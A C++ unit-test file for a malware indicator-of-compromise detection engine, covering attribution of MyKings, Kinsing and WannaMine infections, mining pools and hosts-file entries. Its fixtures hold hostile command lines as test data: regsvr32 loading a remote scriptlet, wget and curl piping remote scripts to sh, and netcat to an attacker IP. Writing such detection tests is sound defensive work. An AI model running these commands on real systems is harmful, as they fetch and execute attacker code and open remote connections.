#include "detect/ioc/ioc_engine.h"

#include <gtest/gtest.h>

#include <map>

namespace msw::detect::ioc {
namespace {

model::Event ev(std::initializer_list<std::pair<model::Field, std::string>> fields) {
  model::Event e;
  e.category = "process_creation";
  for (const auto& [f, v] : fields) e.set(f, v);
  return e;
}

std::map<std::string, std::vector<model::Finding>> run(const std::vector<model::Event>& events,
                                                       std::vector<intel::Indicator> extra = {}) {
  Diagnostics d;
  auto engine = make_ioc_engine(make_intel_context(d, std::move(extra)));
  ArtefactView view{"evidence.log", "ab", "", "", "", {}};
  for (const auto& e : events) engine->observe(view, e);
  std::vector<model::Finding> out;
  engine->finish(out);
  std::map<std::string, std::vector<model::Finding>> by_rule;
  for (auto& f : out) by_rule[f.rule_id].push_back(std::move(f));
  return by_rule;
}

TEST(IocEngine, MyKingsTaskAndDomainAttributeTheFamily) {
  auto r = run({ev({{model::Field::TaskName, "\\Mysa1"}}),
                ev({{model::Field::CommandLine, "cmd /c regsvr32 /u /s /i:http://js.mykings.pw:280/v.sct scrobj.dll"}})});
  ASSERT_EQ(r[std::string(kIocRule)].size(), 1u);
  EXPECT_EQ(r[std::string(kIocRule)][0].family, "mykings");
  EXPECT_EQ(r[std::string(kIocRule)][0].severity, model::Severity::High);
  ASSERT_EQ(r[std::string(kAttributionRule)].size(), 1u);
  EXPECT_EQ(r[std::string(kAttributionRule)][0].title_en, "Family: MyKings");
  EXPECT_FALSE(r[std::string(kAttributionRule)][0].actions.empty());  // the KB's remediation steps
}

TEST(IocEngine, NetworkIndicatorsAloneDoNotAttribute) {
  auto r = run({ev({{model::Field::DestinationHostname, "js.1226bye.xyz"}}),
                ev({{model::Field::QueryName, "wmi.1217bye.host"}})});
  ASSERT_EQ(r[std::string(kIocRule)].size(), 1u);  // reported...
  EXPECT_TRUE(r[std::string(kAttributionRule)].empty());  // ...but shared infrastructure never names the family
}

// A hosts file that blocks a pool or another family's domain keeps the host away from it: no pool finding, no
// family named after the rival (MyKings' hosts file blocks pools WannaMine uses). Pinned to a real address, the same
// name is a match.
TEST(IocEngine, NamesAHostsFileBlocksAreNotMatches) {
  auto hosts = [](std::string name, std::string address) {
    model::Event e;
    e.category = "hosts_entry";
    e.set(model::Field::QueryName, std::move(name));
    e.set(model::Field::QueryResults, std::move(address));
    return e;
  };
  auto blocked = run({hosts("xmr-eu1.nanopool.org", "0.0.0.0"), hosts("js.mys2016.info", "127.0.0.1")});
  EXPECT_TRUE(blocked[std::string(kPoolRule)].empty());
  EXPECT_TRUE(blocked[std::string(kIocRule)].empty());
  EXPECT_TRUE(blocked[std::string(kAttributionRule)].empty());
  auto pinned = run({hosts("js.mys2016.info", "45.77.10.9")});
  ASSERT_EQ(pinned[std::string(kIocRule)].size(), 1u);
  EXPECT_EQ(pinned[std::string(kIocRule)][0].family, "mykings");
}

// A family's domain covers the names below it, at a label boundary only.
TEST(IocEngine, AttackerDomainsMatchTheirSubdomainsNotLookAlikes) {
  auto query = [](std::string name) {
    model::Event e;
    e.category = "dns_query";
    e.set(model::Field::QueryName, std::move(name));
    return e;
  };
  auto below = run({query("up.mykings.pw")});
  ASSERT_EQ(below[std::string(kIocRule)].size(), 1u);
  EXPECT_EQ(below[std::string(kIocRule)][0].family, "mykings");
  EXPECT_TRUE(run({query("notmykings.pw")})[std::string(kIocRule)].empty());
  EXPECT_TRUE(run({query("mykings.pw.example.com")})[std::string(kIocRule)].empty());
}

TEST(IocEngine, CoInfectionIsSaid) {
  auto r = run({ev({{model::Field::TaskName, "Mysa"}}), ev({{model::Field::TaskName, "Mysa2"}}),
                ev({{model::Field::CommandLine, "curl http://js.mykings.pw/a"}}),
                ev({{model::Field::Image, "/tmp/kdevtmpfsi"}}), ev({{model::Field::Image, "/tmp/kinsing"}}),
                ev({{model::Field::CommandLine, "wget -q -O - http://195.3.146.118/d.sh | sh"}})},
               {});
  const auto& a = r[std::string(kAttributionRule)];
  ASSERT_EQ(a.size(), 1u);
  // MyKings: two tasks and a domain; Kinsing: two file names and its loader IP in a cron-style line.
  EXPECT_EQ(a[0].title_en, "Co-infection: MyKings and Kinsing");
  EXPECT_EQ(a[0].family, "mykings");  // the stronger score leads
}

TEST(IocEngine, PrivateAndWarningListedValuesAreNeverFindings) {
  intel::Indicator priv, resolver, feed;
  priv.type = resolver.type = feed.type = intel::IndicatorType::Ip;
  priv.value = "10.1.2.3";
  resolver.value = "8.8.8.8";
  feed.value = "45.9.148.35";
  priv.source = resolver.source = feed.source = "test feed";
  auto r = run({ev({{model::Field::DestinationIp, "10.1.2.3"}}), ev({{model::Field::DestinationIp, "8.8.8.8"}}),
                ev({{model::Field::CommandLine, "nc 45.9.148.35 4444"}})},
               {priv, resolver, feed});
  ASSERT_EQ(r[std::string(kIocRule)].size(), 1u);
  EXPECT_NE(r[std::string(kIocRule)][0].title_en.find("45.9.148.35"), std::string::npos);
  EXPECT_EQ(r[std::string(kIocRule)][0].title_en.find("8.8.8.8"), std::string::npos);
}

TEST(IocEngine, WarningListSuppressesGenericNamesNotSpecificOnes) {
  intel::Indicator generic, bucket;
  generic.type = bucket.type = intel::IndicatorType::Domain;
  generic.value = "aliyuncs.com";
  bucket.value = "evil-bucket.oss-cn-beijing.aliyuncs.com";
  generic.source = bucket.source = "test feed";
  auto r = run({ev({{model::Field::CommandLine, "curl https://evil-bucket.oss-cn-beijing.aliyuncs.com/x.sh | sh"}}),
                ev({{model::Field::QueryName, "aliyuncs.com"}})},
               {generic, bucket});
  ASSERT_EQ(r[std::string(kIocRule)].size(), 1u);
  EXPECT_NE(r[std::string(kIocRule)][0].title_en.find("evil-bucket"), std::string::npos);
  EXPECT_EQ(r[std::string(kIocRule)][0].description_en.find("domain aliyuncs.com"), std::string::npos);
}

TEST(IocEngine, PoolsAreInfrastructureNotAFamily) {
  auto r = run({ev({{model::Field::CommandLine, "./x -o stratum+tcp://xmr-eu1.nanopool.org:14444 -u 4abc"}})});
  ASSERT_EQ(r[std::string(kPoolRule)].size(), 1u);
  EXPECT_EQ(r[std::string(kPoolRule)][0].severity, model::Severity::Medium);
  EXPECT_TRUE(r[std::string(kIocRule)].empty());
}

// Item 13: a knowledge-base pattern (WannaMine's three-word service names) never shows as the title: the name does.
TEST(IocEngine, TitlesShowTheMatchedNameNotThePattern) {
  model::Event svc;
  svc.category = "registry_set";
  svc.set(model::Field::ServiceName, "NetworkRPCHelper");
  auto r = run({svc});
  ASSERT_EQ(r[std::string(kIocRule)].size(), 1u) << r.size();
  const auto& f = r[std::string(kIocRule)][0];
  EXPECT_NE(f.title_en.find("NetworkRPCHelper"), std::string::npos) << f.title_en;
  EXPECT_EQ(f.title_en.find('^'), std::string::npos) << f.title_en;
  EXPECT_EQ(f.title_en.find('|'), std::string::npos) << f.title_en;
  EXPECT_NE(f.description_en.find("NetworkRPCHelper (matches ^("), std::string::npos) << f.description_en;
}

}  // namespace
}  // namespace msw::detect::ioc
